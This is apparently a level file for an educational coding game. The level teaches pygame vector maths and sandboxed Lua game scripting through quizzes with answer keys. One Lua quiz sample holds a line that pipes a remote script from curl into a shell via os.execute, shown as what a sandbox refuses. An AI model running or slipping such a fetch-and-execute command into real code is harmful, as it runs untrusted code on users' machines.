-- levels/game_dev/03_drone_bay.lua: the Game Development quest, level 3,
-- and the third part of its own mechanic (lib/steer.lua): the arcade's new
-- game has a drone that flies to a beacon, and its steering line is wrong.
-- The player learns vector maths (pygame.Vector2: normalize, reflect, dot,
-- move_towards) and game scripting (logic in an embedded, sandboxed
-- language such as Lua), puts the right steering line in, and moves the
-- beacon to watch the drone dock.
-- Play order: Mei (vectors orb, the input code, the bounce notes) -> the
-- steering slot, the beacon lever -> Grace (scripting orb, the engine
-- split, the level script) -> exit.
-- Facts (pygame-ce math.rst: normalize, move_towards, reflect, dot): FACTS.md.

local function steer() return sq.module("steer") end
local function refresh() return sq.module("refresh") end

local asks = { Mei = { "gd_vec_3" }, Grace = { "gd_script_1" } }
local right = {}

return {
  format = 1,
  id = "game_dev.drone_bay",
  quest = "game_dev",
  title = "The Drone Bay",
  brief = "The arcade's next game has a drone that should fly to a beacon and stop on it. It does "
    .. "not. Vectors will fix it. Talk to Mei first; {hint} gives a hint.",
  music = "game_dev_arcade",
  requires = { "python", "game_loop" },

  behaviours = {
    terminal = {
      sprite = "terminal", frames = 2, rate = 40, size = { 14, 12 }, offset = { -1, -4 }, solid = true,
      on_interact = function(self)
        if self.props.text then sq.say(self.props.speaker or "Sign", self.props.text) end
        sq.ask({ self.props.quiz, self.props.more })
      end,
    },
    token = {
      sprite = "token_card_yellow", solid = true, size = { 12, 12 },
      on_spawn = function(self) sq.set_label(self.id, self.props.label, true) end,
      on_interact = function(self) sq.carry(self.id) end,
    },
    steering = {
      sprite = "slot", solid = true,
      on_spawn = function(self) sq.set_label(self.id, "steering", true) end,
      on_place = function(self, token) return steer().place(self, token) end,
      on_take = function(self, token) steer().take(self, token) end,
    },
    lever = {
      sprite = "lever_0", solid = true,
      on_spawn = function(self) sq.set_label(self.id, "beacon", true) end,
      on_interact = function(self) sq.say("Drone bay", steer().lever()) end,
    },
    drone = {
      sprite = "robot_down", frames = 2, rate = 20,
      on_spawn = function(self) steer().drone_spawned(self) end,
    },
    beacon = {
      sprite = "lamp_green",
      on_spawn = function(self) steer().beacon_spawned(self) end,
    },
    marker = { hidden = true },
  },

  map = {
    theme = "games",
    legend = {
      M = { type = "mentor", name = "Mei", dialogue = "mei", look = "mei", facing = "down" },
      G = { type = "mentor", name = "Grace", dialogue = "grace", look = "grace", facing = "left" },
      V = { type = "review", name = "review desk" },
      C = { type = "steering", name = "steering slot" },
      L = { type = "lever", name = "beacon lever" },
      r = { type = "drone", name = "drone" },
      x = { type = "beacon", name = "beacon" },
      a = { type = "token", name = "lerp line", mode = "lerp", label = "(goal-pos)\n* 2 * dt" },
      b = { type = "token", name = "normalize line", mode = "normal", label = "(goal-pos)\n.normalize()" },
      c = { type = "token", name = "move_towards line", mode = "toward", label = "move_towards\n_ip(goal, d)" },
      I = { type = "terminal", name = "input code", speaker = "drones.py: Player.update",
            text = "Players say the ship flies faster on the diagonals.",
            quiz = "gd_vec_1" },
      B = { type = "terminal", name = "bounce notes", speaker = "Mei's notes",
            text = "Vector2 does the maths: reflect bounces a velocity off a surface, dot says how much "
              .. "two directions agree.",
            quiz = "gd_vec_2" },
      N = { type = "terminal", name = "engine split", speaker = "Grace's whiteboard",
            text = "The engine is C++. The drones' behaviour is Lua, reloaded while the game runs.",
            quiz = "gd_script_2" },
      S = { type = "terminal", name = "level script", speaker = "bay.lua (a level script)",
            text = "A designer's script for the drone bay, about to be loaded by the engine's sandbox.",
            quiz = "gd_script_3" },
      Q = { type = "skill", name = "vectors orb", skill = "vector_math" },
      Z = { type = "skill", name = "scripting orb", skill = "game_scripting" },
      W = { type = "marker", name = "drone docks" },
      j = { type = "prop", sprite = "games_crt" },
      k = { type = "prop", sprite = "games_beanbag" },
      h = { type = "tall_prop", sprite = "games_claw" },
    },
    rows = {
      "##################E###############",
      "#W...I......B..........N......S..#",
      "#................................#",
      "#..M.............,,,,,,,,,,,,....#",
      "#.Q..............,x,,,,,,,,,,....#",
      "#................,,,,,,,,,,,,....#",
      "#................,,,,,,,,,,,,....#",
      "#......C.....L...,,,,,,,,,,,,..G.#",
      "#................,,,,,,,,,,,,....#",
      "#................r,,,,,,,,,,,....#",
      "#................................#",
      "#................................#",
      "#.a.......b.......c........Z.....#",
      "#.@..j.k.....................h.V.#",
      "##################################",
    },
  },

  dialogue = {
    mei = {
      { "Mei Lin Zhao, AI programmer", "I write how things move in our games: enemies that chase, "
        .. "drones that dock. All of it is vectors: a position, a velocity, a direction." },
      "pygame.Vector2 does the maths: add, scale, normalize to length 1, move_towards a point, "
        .. "reflect off a wall, dot to compare two directions.",
      "Our drone should fly at 3 tiles a second and stop on the beacon. Try the steering lines, "
        .. "move the beacon with the lever, and watch the panel. A question first:",
    },
    grace = {
      { "Grace Mwangi, tools programmer", "Our engine is C++, but the drones' behaviour lives in Lua "
        .. "scripts. Designers change them while the game runs; no rebuild." },
      "The engine runs each script in a sandbox: no files, no processes, a budget per frame. A script "
        .. "can break its level, never the game. This very game works that way.",
      "One question from a studio I worked at:",
    },
  },

  exercises = {
    gd_vec_1 = {
      kind = "code", skill = "vector_math", language = "python",
      prompt = "The ship flies about 41% faster on the diagonals. Which line should change?",
      code = [==[
keys = pygame.key.get_pressed()
move = pygame.Vector2(0, 0)
move.x = keys[pygame.K_d] - keys[pygame.K_a]
move.y = keys[pygame.K_s] - keys[pygame.K_w]
ship.pos += move * SPEED * dt
]==],
      answer = 5,
      why = {
        [3] = "-1, 0 or 1 on x: right for left and right.",
        [4] = "-1, 0 or 1 on y: right for up and down.",
        [5] = "(1, 1) has length 1.41. Normalize move first, only when it is not zero.",
      },
      explain = "Use a direction of length 1: if move.length_squared() > 0: move = move.normalize(). normalize() raises ValueError on a zero vector.",
    },
    gd_vec_2 = {
      kind = "fill", skill = "vector_math", language = "python",
      prompt = "Bounce the ball off a wall, and check whether the player is in front of the guard.",
      code = [==[
# normal: the wall's unit normal, e.g. Vector2(0, -1)
ball.vel = ball.vel.{1}(normal)

to_player = (player.pos - guard.pos).normalize()
if guard.facing.{2}(to_player) > 0.5:
    guard.alert()
]==],
      blanks = {
        { options = { "reflect", "normalize", "rotate" }, answer = 1,
          why = {
            "reflect mirrors the velocity about the surface's normal: a bounce.",
            "normalize keeps the direction: the ball flies into the wall.",
            "rotate needs an angle, and turns the ball the same way at every wall.",
          } },
        { options = { "dot", "cross", "distance_to" }, answer = 1,
          why = {
            "For unit vectors, dot is the cosine of the angle: above 0.5 is within 60 degrees.",
            "cross says which side the player is on, not how far in front.",
            "distance_to measures how far, not in which direction.",
          } },
      },
      explain = "reflect(normal) turns a velocity into its bounce; dot of two unit vectors is 1 when they point the same way, 0 at right angles, -1 when opposite.",
    },
    gd_vec_3 = {
      kind = "choice", skill = "vector_math", scenario = true,
      prompt = "A drone flies to a beacon at 3 tiles a second, then jitters back and forth on it. How do you move it?",
      choices = {
        { "pos.move_towards_ip(goal, SPEED * dt)", right = true,
          why = "Steps at most SPEED * dt and never past the goal: it stops on it." },
        { "pos += (goal - pos).normalize() * SPEED * dt",
          why = "The last step goes past the goal and the next comes back: the jitter. On the goal exactly it raises ValueError." },
        { "pos += (goal - pos) * 2 * dt",
          why = "Speed grows with distance: it races when far, and crawls for ever when near." },
      },
      explain = "Clamp the last step to the distance left. Vector2.move_towards (pygame-ce 2.1.3 and later) does it in one call.",
    },
    gd_script_1 = {
      kind = "choice", skill = "game_scripting", scenario = true,
      prompt = "Designers tweak 200 enemy behaviours every day, and each rebuild of the C++ engine takes 40 minutes. What would you set up?",
      choices = {
        { "Behaviours as Lua scripts the engine loads, sandboxed and reloaded while running", right = true,
          why = "Designers edit and see the change in seconds; a bad script cannot crash the engine." },
        { "A bigger build machine",
          why = "Faster builds, but designers still wait, and still edit C++." },
        { "One C++ class per enemy, edited by the designers",
          why = "Every change is still a rebuild, and a typo can crash the whole game." },
      },
      explain = "Engines keep the hot, shared code in C or C++ and put game rules in a scripting language: fast iteration, and a sandbox limits what a script can do.",
    },
    gd_script_2 = {
      kind = "sort", skill = "game_scripting",
      prompt = "In an engine with Lua scripting, where does each piece usually live?",
      bins = { "Engine (C++)", "Script (Lua)" },
      items = {
        { "Drawing sprites to the screen", bin = 1, why = "Hot, shared, performance-critical." },
        { "Testing 10,000 colliders a frame", bin = 1, why = "Heavy maths in the inner loop." },
        { "Mixing sound", bin = 1, why = "Real-time and shared by every level." },
        { "A drone flees when its health is low", bin = 2, why = "A game rule designers tune." },
        { "A door opens when three levers are pulled", bin = 2, why = "One level's puzzle logic." },
        { "What a shopkeeper says", bin = 2, why = "Content that changes often." },
      },
      explain = "The engine does the fast, general work; scripts decide what happens in this game and this level, and change without a rebuild.",
    },
    gd_script_3 = {
      kind = "code", skill = "game_scripting", language = "lua",
      prompt = "The engine runs level scripts in a sandbox. Which line will it refuse?",
      code = [==[
local drone = { hp = 100, state = "patrol" }

function drone.on_update(self, dt)
  if self.hp < 20 then self.state = "flee" end
  os.execute("curl example.com/cheat.sh | sh")
end

return drone
]==],
      answer = 5,
      why = {
        [4] = "Plain game logic: reading and setting the script's own state.",
        [5] = "Running a program on the player's machine: a sandbox takes os.execute away.",
        [8] = "Returning the table is how the script hands its callbacks to the engine.",
      },
      explain = "A script shared between players is untrusted code: the engine removes files, processes and the network from its environment, and caps its time per frame.",
    },
  },

  hints = {
    "Mei stands near the start: walk next to her and press {confirm}.",
    "Take the vectors orb and answer Mei, the input code or the bounce notes.",
    "Put a steering line on the slot, then pull the beacon lever and watch the drone and the panel.",
    "Grace, on the east side, knows scripting; the scripting orb is south of her.",
  },

  goals = {
    { talk = "Mei", text = "Talk to Mei",
      hint = "Mei stands above where you start: press {confirm} next to her." },
    { collect = "vector_math", text = "Hold vector maths",
      hint = "The vectors orb, then Mei, the input code or the bounce notes {where:bounce notes}." },
    { reach = "drone docks", text = "Dock the drone at two spots",
      hint = "A steering line that never overshoots, then the beacon lever." },
    { collect = "game_scripting", text = "Hold game scripting",
      hint = "The scripting orb is {where:scripting orb}; Grace, the engine split and the level script ask." },
  },

  grants = { xp = 60 },

  on_start = function()
    steer().spot(18, 4)
    steer().spot(27, 8)
    steer().spot(22, 3)
    steer().panel()
  end,

  on_update = function(dt) steer().update(dt) end,

  on_collect = function() sq.xp(10) end,

  on_interact = function(e)
    if e.name == "Mei" and refresh().start({ { "python", "gd_warm_python" }, { "game_loop", "gd_loop_3" } }) then
      return
    end
    local list = {}
    for _, id in ipairs(asks[e.name] or {}) do
      if not right[id] then list[#list + 1] = id end
    end
    if #list > 0 then sq.ask(list) end
  end,

  on_answer = function(id, correct)
    refresh().answered()
    if correct then
      right[id] = true
      sq.xp(10)
    end
  end,
}
